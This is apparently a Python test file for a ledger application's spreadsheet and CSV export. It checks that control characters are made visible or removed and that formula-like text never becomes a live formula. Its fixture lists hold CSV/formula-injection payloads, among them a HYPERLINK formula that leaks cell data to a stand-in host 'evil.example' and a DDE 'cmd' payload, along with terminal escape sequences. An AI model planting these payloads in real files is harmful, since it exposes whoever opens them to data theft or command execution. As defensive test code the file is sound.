"""The one spreadsheet writer and the control-character policy, pure: any text in, a file that
opens again with the text readable and no formula anywhere. The same writer behind every download
and export is checked end to end in tests/dashboard/test_export_any_text.py."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from ledger import control_chars as cc
from ledger import spreadsheet as sp

C0 = "".join(chr(code) for code in range(0x20))
C1 = "".join(chr(code) for code in range(0x80, 0xA0))
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋SUM(1)", "－1", "＠SUM(1)"]
HUGE = "长" * 200_000  # 200 k characters, ~600 kB of UTF-8
# Everything XML 1.0 forbids (openpyxl's IllegalCharacterError, or a file that no longer opens).
XML_FORBIDDEN = set(C0) - set("\t\n\r") | {chr(c) for c in range(0xD800, 0xE000)} | {"\ufffe", "\uffff"}

HOSTILE = [C0, "标题\x1b[31m红色\x1b[0m", "铃\x07", "空\x00字", "删\x7f", C1, "半个\ud800代理", "非字符\ufffe\uffff",
           "#N/A", "#DIV/0!", "中文 English 混排，换行\n第二行", *FORMULAS, HUGE]


def test_pictured_shows_each_control_by_its_picture_and_keeps_tab_lf_cr():
    expected = "".join(chr(0x2400 + c) if c not in (9, 10, 13) else chr(c) for c in range(0x20))
    assert cc.pictured(C0) == expected
    assert cc.pictured("a\x7fb") == "a\u2421b"
    assert cc.pictured("\ud800\udfff\ufffe\uffff") == "\ufffd" * 4
    assert cc.pictured(C1) == C1  # legal in XML and CSV
    plain = "隐患：通风橱失效\n已通知"
    assert cc.pictured(plain) is plain


def test_free_text_keeps_its_lines_and_loses_the_invisible():
    assert cc.clean_free_text("一\r\n二\r三\x0b四\x0c五\x85六\n七") == "一\n二\n三\n四\n五\n六\n七"
    assert cc.clean_free_text("a\tb\x00c\x07d\x1be\x7ff\x9bg") == "a\tbcdefg"
    assert cc.clean_free_text("\ud800") == "\ufffd"


def test_one_line_makes_every_control_visible_and_clips():
    shown = cc.one_line("a\nb\x1b[2J\x9bc", limit=60)
    assert "\n" not in shown and "\x1b" not in shown and "\x9b" not in shown and shown.startswith("a␊b␛[2J")
    assert cc.one_line("x" * 100, limit=10) == "x" * 9 + "…"


def test_first_control_and_its_name():
    assert cc.first_control("HZ-1") is None
    assert cc.first_control("HZ\x1b-1") == (2, "\x1b")
    assert cc.describe("\x1b") == "U+001B（ESC）" and cc.describe("\x7f") == "U+007F（DEL）"
    assert cc.describe("\x85") == "U+0085"


def test_cell_text_clips_at_excels_limit_and_says_so():
    cut = sp.cell_text(HUGE)
    assert len(cut) == sp.MAX_CELL_CHARS and cut.endswith("〔已截断：全文200000字〕") and cut.startswith("长" * 1000)
    assert sp.cell_text("短") == "短"


def _sheet():
    when, day = datetime(2026, 11, 24, 10, 30), date(2026, 11, 24)
    rows = [[i, text, when, day, None, 1.5] for i, text in enumerate(HOSTILE)]
    return sp.Sheet("测试", ["序号", "=内容", "时间", "日期", "空", "数"], rows)


def test_xlsx_holds_any_text_readable_and_no_formula():
    data = sp.xlsx_bytes([_sheet()])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).active
    header = [c for c in sheet[1]]
    assert header[1].value == "=内容" and header[1].data_type == "s" and header[1].quotePrefix
    assert sheet.freeze_panes == "A2" and header[0].font.bold
    for original, row in zip(HOSTILE, sheet.iter_rows(min_row=2)):
        cell = row[1]
        assert cell.data_type == "s" and cell.value == sp.xlsx_text(original)
        assert not set(cell.value) & XML_FORBIDDEN
        assert cell.quotePrefix == sp.formula_like(cell.value)  # formula-like text marked as typed text
        assert row[2].value == datetime(2026, 11, 24, 10, 30) and row[2].number_format == sp.DATETIME_FORMAT
        assert row[5].value == 1.5 and row[4].value is None
    values = [r[1].value for r in sheet.iter_rows(min_row=2)]
    assert values[HOSTILE.index("铃\x07")] == "铃␇" and values[HOSTILE.index("#N/A")] == "#N/A"
    assert all(v in values for v in FORMULAS if "\r" not in v)  # the text itself is kept as it was
    assert "\n=1+1" in values  # a CR is a line break in Excel, written as its LF


def test_csv_holds_any_text_with_a_bom_and_formulas_marked():
    data = sp.csv_bytes(_sheet())
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][1] == "'=内容"
    for original, row in zip(HOSTILE, rows[1:]):
        text = sp.cell_text(original)
        assert row[1] == ("'" + text if sp.formula_like(text) else text)
        assert not row[1].startswith(sp.FORMULA_START)
        assert not set(row[1]) & (XML_FORBIDDEN - {"\t", "\n", "\r"})
        assert row[2] == "2026-11-24 10:30:00" and row[3] == "2026-11-24" and row[4] == ""
    # Every field is quoted: a separator inside one cannot start a new cell in any locale's Excel.
    assert data.decode("utf-8-sig").splitlines()[1].startswith('"0","')


def test_save_writes_whole_files_by_suffix(tmp_path):
    sheet = sp.Sheet("表", ["列"], [["值"]])
    sp.save(tmp_path / "a.xlsx", sheet)
    sp.save(tmp_path / "a.csv", sheet)
    assert load_workbook(tmp_path / "a.xlsx").active["A2"].value == "值"
    assert (tmp_path / "a.csv").read_bytes().decode("utf-8-sig") == '"列"\r\n"值"\r\n'
    with pytest.raises(ValueError):
        sp.save(tmp_path / "a.txt", sheet)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "a.xlsx"]  # no part file left behind


def test_a_zoned_time_is_refused_rather_than_written_in_the_wrong_zone():
    from zoneinfo import ZoneInfo

    zoned = sp.Sheet("表", ["时间"], [[datetime(2026, 11, 24, 10, 30, tzinfo=ZoneInfo("Asia/Shanghai"))]])
    with pytest.raises(TypeError):
        sp.xlsx_bytes([zoned])
    with pytest.raises(TypeError):
        sp.csv_bytes(zoned)
